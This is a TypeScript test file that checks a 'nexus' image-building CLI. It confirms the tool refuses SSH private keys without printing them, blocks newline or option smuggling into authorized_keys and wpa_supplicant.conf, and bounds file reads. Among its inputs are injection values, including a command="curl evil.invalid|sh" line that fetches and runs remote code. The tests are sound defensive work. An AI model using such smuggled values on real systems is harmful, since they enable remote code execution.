/**
 * Issue 13: secrets and smuggling through customization flags, run through the real `nexus` CLI: a private key
 * given to --ssh-key is refused and never printed, a key "line" with a newline cannot add a second
 * authorized_keys entry (command="…"), SSIDs with control characters are refused, wpa_supplicant.conf is
 * written in the format wpa_supplicant actually parses, and --wifi-passphrase-file is read with a bound.
 */
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { wpaSupplicantConf } from '../../../src-main/engine/image/config/etc';
import { checkSshPublicKey, CustomizationSchema, WifiSettings } from '../../../src-shared/customization';
import { nexus } from '../../support/run-cli';

let dir: string;
let publicLine: string;
let pkcs8Pem: string;
let opensshPrivate: string;
/** Lines of the private keys that must never show up in any output. */
let secretLines: string[];

/** "ssh-ed25519 AAAA… comment" from a node ed25519 key (the OpenSSH wire format: string type, string key). */
function opensshPublic(raw32: Buffer, comment: string): string {
  const str = (b: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, b.length]), b]);
  return `ssh-ed25519 ${Buffer.concat([str(Buffer.from('ssh-ed25519')), str(raw32)]).toString('base64')} ${comment}`;
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'nexus-secrets-'));
  const { publicKey, privateKey } = generateKeyPairSync('ed25519');
  const spki = publicKey.export({ type: 'spki', format: 'der' });
  publicLine = opensshPublic(spki.subarray(spki.length - 32), 'me@host');
  pkcs8Pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  // The shape of ssh-keygen's output ("openssh-key-v1" container); the content only has to look like one.
  const body = Buffer.concat([Buffer.from('openssh-key-v1\0'), randomBytes(200)])
    .toString('base64')
    .match(/.{1,70}/g)!
    .join('\n');
  opensshPrivate = `-----BEGIN OPENSSH PRIVATE KEY-----\n${body}\n-----END OPENSSH PRIVATE KEY-----\n`;
  secretLines = [...pkcs8Pem.split('\n'), ...opensshPrivate.split('\n')].filter((l) => l.length > 20 && !l.startsWith('-----'));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

/** `nexus build --plan` for tinybox with these flags: validates the customization without building. */
const plan = (...flags: string[]) => nexus(['build', '--profile', 'tinybox', '--plan', ...flags]);

function expectNoSecret(out: string): void {
  for (const l of secretLines) expect(out).not.toContain(l);
  expect(out).not.toMatch(/openssh-key-v1|b3BlbnNzaC1rZXktdjE/);
}

describe('--ssh-key', () => {
  it('accepts a public key line and a .pub file', async () => {
    const pub = join(dir, 'id.pub');
    await writeFile(pub, `${publicLine}\n`);
    for (const v of [publicLine, pub]) {
      const r = await plan('--user', 'bob', '--ssh-key', v);
      expect(r.stderr).toBe('');
      expect(r.code).toBe(0);
      expect(r.stdout).toMatch(/1 SSH key\(s\)/);
    }
  }, 60_000);

  it.each([
    ['an OpenSSH private key as text', () => opensshPrivate],
    ['a PKCS#8 private key as text', () => pkcs8Pem],
  ])(
    'refuses %s without printing it',
    async (_what, value) => {
      const r = await plan('--user', 'bob', '--ssh-key', value());
      expect(r.code).not.toBe(0);
      expect(r.stderr).toMatch(/The --ssh-key value is a private key; refusing it \(it was not printed or stored\)/);
      expect(r.stderr).toMatch(/hint: Pass the public half instead/);
      expectNoSecret(r.stdout + r.stderr);
    },
    60_000,
  );

  it('refuses a private key file without printing its content', async () => {
    for (const [name, text] of [
      ['id_ed25519', opensshPrivate],
      ['key.pem', pkcs8Pem],
    ] as const) {
      const path = join(dir, name);
      await writeFile(path, text);
      await chmod(path, 0o600);
      const r = await plan('--user', 'bob', '--ssh-key', path);
      expect(r.code).not.toBe(0);
      expect(r.stderr).toContain(`--ssh-key "${path}" is a private key file; refusing it`);
      expectNoSecret(r.stdout + r.stderr);
      // JSON mode must not leak it either.
      const j = await plan('--user', 'bob', '--ssh-key', path, '--json');
      expectNoSecret(j.stdout + j.stderr);
    }
  }, 60_000);

  it('a newline cannot smuggle a second authorized_keys line (command="…")', async () => {
    const smuggled = `${publicLine}\ncommand="curl evil.invalid|sh" ${publicLine}`;
    const r = await plan('--user', 'bob', '--ssh-key', smuggled);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/--ssh-key: a public key is one line without control characters/);
    expect(r.stderr).not.toContain('curl evil');
    // The same through a file: every line must be a bare public key, options are refused.
    const file = join(dir, 'keys.pub');
    await writeFile(file, `${publicLine}\ncommand="curl evil.invalid|sh",no-pty ${publicLine}\n`);
    const f = await plan('--user', 'bob', '--ssh-key', file);
    expect(f.code).not.toBe(0);
    expect(f.stderr).toMatch(/line 2: unknown key type at the start of the line .*options such as command="…" are not accepted/);
    // CR, NUL and tabs-only tricks inside one argument.
    for (const v of [`${publicLine}\rcommand="x" ${publicLine}`, `${publicLine}\0x`]) {
      const x = await plan('--user', 'bob', '--ssh-key', v.replace('\0', '\u0001'));
      expect(x.code).not.toBe(0);
    }
  }, 60_000);

  it('reads key files with a bound', async () => {
    const big = join(dir, 'big.pub');
    await writeFile(big, `${publicLine}\n`.repeat(2000));
    const r = await plan('--user', 'bob', '--ssh-key', big);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/is larger than 64 KiB/);
    const z = await plan('--user', 'bob', '--ssh-key', '/dev/zero');
    expect(z.code).not.toBe(0);
    expect(z.stderr).toMatch(/larger than 64 KiB/);
  }, 60_000);

  it('the schema itself refuses multi-line keys, options and private keys (GUI and server paths)', () => {
    expect(checkSshPublicKey(publicLine)).toBeUndefined();
    expect(checkSshPublicKey(`${publicLine}\n${publicLine}`)).toMatch(/one line/);
    expect(checkSshPublicKey(`command="x" ${publicLine}`)).toMatch(/unknown key type at the start of the line/);
    expect(checkSshPublicKey(pkcs8Pem)).toMatch(/private key/);
    expect(checkSshPublicKey(opensshPrivate.split('\n')[1]!)).toMatch(/private key/);
    expect(checkSshPublicKey(publicLine.replace(' me@host', '') + '!!')).toMatch(/base64/);
    const parsed = CustomizationSchema.safeParse({ sshKeys: [`${publicLine}\ncommand="x" ${publicLine}`] });
    expect(parsed.success).toBe(false);
    expect(JSON.stringify(parsed.error?.issues.map((i) => i.message))).not.toContain('command=');
  });
});

describe('Wi-Fi', () => {
  it('refuses an SSID with a newline (or other control characters)', async () => {
    const r = await plan('--wifi-ssid', 'Home\n}\nnetwork={\n\tssid="evil"', '--wifi-country', 'DE');
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/wifi\.ssid: an SSID must not contain control characters/);
    for (const ssid of ['a\tb', 'a\u0000b', 'a\u007fb', 'a\rb']) expect(WifiSettings.safeParse({ ssid, country: 'DE' }).success).toBe(false);
  }, 60_000);

  it('writes wpa_supplicant.conf the way wpa_supplicant parses it (no backslash escapes; hex for anything unusual)', () => {
    const conf = (ssid: string, passphrase?: string) => wpaSupplicantConf(WifiSettings.parse({ ssid, country: 'DE', ...(passphrase ? { passphrase } : {}) }));
    expect(conf('Home net', 'correct horse')).toMatch(/^\tssid="Home net"\n\tpsk="correct horse"$/m);
    // wpa_supplicant takes a quoted value up to the LAST '"' with no escapes: quotes and backslashes stay as they are.
    expect(conf('Home', 'pa"ss\\word!')).toMatch(/^\tpsk="pa"ss\\word!"$/m);
    expect(conf('Bob\'s "net"')).toMatch(new RegExp(`^\\tssid=${Buffer.from('Bob\'s "net"').toString('hex')}$`, 'm'));
    expect(conf('Café')).toMatch(new RegExp(`^\\tssid=${Buffer.from('Café').toString('hex')}$`, 'm'));
    expect(conf('a\\b')).toMatch(/^\tssid=615c62$/m);
    expect(conf('Home')).toMatch(/^\tkey_mgmt=NONE$/m);
    // Whatever the values hold, they stay inside their one line: nothing can open a second network block.
    const c = conf('x}{y', 'a"} network={ ssid="evil"');
    expect(c.match(/^network=\{/gm)).toHaveLength(1);
    expect(c.split('\n')).toHaveLength(9);
    expect(() => wpaSupplicantConf({ ssid: 'a\nb', country: 'DE' })).toThrow(/control characters/);
  });

  it('--wifi-passphrase-file is read with a bound: /dev/zero and long files are refused at once, without echo', async () => {
    const t0 = Date.now();
    const z = await plan('--wifi-ssid', 'Home', '--wifi-country', 'DE', '--wifi-passphrase-file', '/dev/zero');
    expect(z.code).not.toBe(0);
    expect(z.stderr).toMatch(/--wifi-passphrase-file "\/dev\/zero" holds more than 64 characters/);
    expect(Date.now() - t0).toBeLessThan(30_000);
    const long = join(dir, 'long.txt');
    await writeFile(long, `${'s3cret-'.repeat(20)}\n`);
    const l = await plan('--wifi-ssid', 'Home', '--wifi-country', 'DE', '--wifi-passphrase-file', long);
    expect(l.code).not.toBe(0);
    expect(l.stderr).not.toContain('s3cret');
    const two = join(dir, 'two.txt');
    await writeFile(two, 's3cret-one\ns3cret-two\n');
    const t = await plan('--wifi-ssid', 'Home', '--wifi-country', 'DE', '--wifi-passphrase-file', two);
    expect(t.code).not.toBe(0);
    expect(t.stderr).toMatch(/more than one line/);
    expect(t.stderr).not.toContain('s3cret');
    // 63 characters and a newline: the longest WPA2 passphrase is accepted.
    const ok = join(dir, 'ok.txt');
    await writeFile(ok, `${'p'.repeat(63)}\n`);
    const o = await plan('--wifi-ssid', 'Home', '--wifi-country', 'DE', '--wifi-passphrase-file', ok);
    expect(o.stderr).toBe('');
    expect(o.code).toBe(0);
    expect(o.stdout).not.toContain('p'.repeat(63));
  }, 90_000);
});
